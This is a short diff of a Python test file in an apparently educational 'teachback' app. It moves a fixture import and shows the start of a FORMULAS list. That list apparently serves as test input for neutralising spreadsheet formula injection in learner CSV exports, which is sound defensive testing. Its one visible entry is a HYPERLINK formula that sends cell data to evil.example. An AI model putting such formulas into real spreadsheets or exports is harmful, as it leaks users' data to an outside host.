@@ -19,10 +19,10 @@ from teachback.curricula.export_markdown import render_markdown
 from teachback.curricula.export_notebook import unit_notebook
 from teachback.curricula.publish import publish
 from teachback.neutralise import spreadsheet_cell, terminal_text, unsafe_url
+from teachback.tests.session_fixture import build_fixture_curriculum
 from teachback.tests.signin import PASSWORD, make_user
 from teachback.tutor.classroom import report
 from teachback.tutor.export_learners import mastery_csv
-from teachback.tutor.session_fixture import build_fixture_curriculum
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
